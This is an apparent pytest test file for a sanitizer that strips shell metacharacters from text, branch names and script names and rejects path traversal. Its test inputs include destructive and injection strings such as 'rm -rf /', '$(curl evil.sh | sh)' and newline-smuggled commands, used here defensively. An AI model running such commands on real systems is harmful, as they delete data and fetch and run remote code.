import re

import pytest

from archforge.errors import PathTraversalError
from archforge.sanitizer import (
    BRANCH_FALLBACK,
    SHELL_METACHARACTERS,
    has_shell_metacharacters,
    sanitize_branch_name,
    sanitize_path_against_escape,
    sanitize_script_name,
    sanitize_shell_text,
    slugify,
)

HOSTILE = [
    "",
    "plain text",
    "  padded  ",
    "rm -rf /; echo pwned",
    "$(curl evil.sh | sh)",
    "`whoami` && ls > /tmp/x",
    "it's a \"quoted\" {brace} <tag>",
    "feature//double--dash__under",
    "///---___",
    "añadir café ☕",
]

BRANCH_RE = re.compile(r"^[A-Za-z0-9/_-]+$")


# ---------------------------------------------------------------------------
# Shell text
# ---------------------------------------------------------------------------

@pytest.mark.parametrize("text", HOSTILE)
def test_shell_text_has_no_metacharacters(text):
    cleaned = sanitize_shell_text(text)
    assert not any(c in cleaned for c in SHELL_METACHARACTERS)
    assert not has_shell_metacharacters(cleaned)


@pytest.mark.parametrize("text", HOSTILE)
def test_shell_text_is_idempotent(text):
    once = sanitize_shell_text(text)
    assert sanitize_shell_text(once) == once


def test_shell_text_keeps_ordinary_characters():
    assert sanitize_shell_text("  feat(domain): T001 - Create user  ") == "feat(domain): T001 - Create user"
    assert sanitize_shell_text("a; b | c") == "a b  c"


# ---------------------------------------------------------------------------
# Branch names
# ---------------------------------------------------------------------------

@pytest.mark.parametrize("text", HOSTILE)
def test_branch_name_shape(text):
    name = sanitize_branch_name(text)
    assert BRANCH_RE.match(name)
    assert not re.search(r"[-/_]{2,}", name)
    assert name[0] not in "-/_" and name[-1] not in "-/_"


@pytest.mark.parametrize("text", HOSTILE)
def test_branch_name_is_idempotent(text):
    once = sanitize_branch_name(text)
    assert sanitize_branch_name(once) == once


def test_branch_name_examples():
    assert sanitize_branch_name("feature/T001-create user entity") == "feature/T001-create-user-entity"
    assert sanitize_branch_name("feature//T001--x") == "feature/T001-x"
    assert sanitize_branch_name("a-/b") == "a/b"
    assert sanitize_branch_name("$$$") == BRANCH_FALLBACK


def test_slugify():
    assert slugify("Create User Entity!") == "create-user-entity"
    assert slugify("--") == ""


def test_script_name():
    assert sanitize_script_name("lint:fix; rm -rf") == "lint:fix rm -rf"
    assert sanitize_script_name("$(evil)") == "evil"


# ---------------------------------------------------------------------------
# Paths
# ---------------------------------------------------------------------------

def test_relative_path_inside_container(tmp_path):
    resolved = sanitize_path_against_escape("src/features/x.ts", tmp_path)
    assert resolved == (tmp_path / "src" / "features" / "x.ts").resolve()


def test_container_itself_is_allowed(tmp_path):
    assert sanitize_path_against_escape(".", tmp_path) == tmp_path.resolve()


@pytest.mark.parametrize("candidate", ["../outside", "a/../../outside", "src/../../.."])
def test_relative_escape_is_rejected(tmp_path, candidate):
    with pytest.raises(PathTraversalError) as exc:
        sanitize_path_against_escape(candidate, tmp_path)
    assert candidate in str(exc.value)


def test_sibling_with_common_prefix_is_rejected(tmp_path):
    container = tmp_path / "proj"
    container.mkdir()
    with pytest.raises(PathTraversalError):
        sanitize_path_against_escape("../proj-evil/x", container)


def test_absolute_path_is_returned_resolved(tmp_path):
    other = tmp_path / "elsewhere" / ".." / "backups"
    assert sanitize_path_against_escape(other, tmp_path / "proj") == (tmp_path / "backups").resolve()


def test_script_name_drops_newlines_and_tabs():
    assert sanitize_script_name("lint\ntouch /tmp/pwned") == "linttouch tmppwned"
    assert sanitize_script_name("a\tb\rc") == "abc"


def test_absolute_path_refused_when_not_allowed(tmp_path):
    with pytest.raises(PathTraversalError):
        sanitize_path_against_escape(tmp_path / "x", tmp_path / "proj", allow_absolute=False)
    assert sanitize_path_against_escape("x", tmp_path, allow_absolute=False) == (tmp_path / "x").resolve()
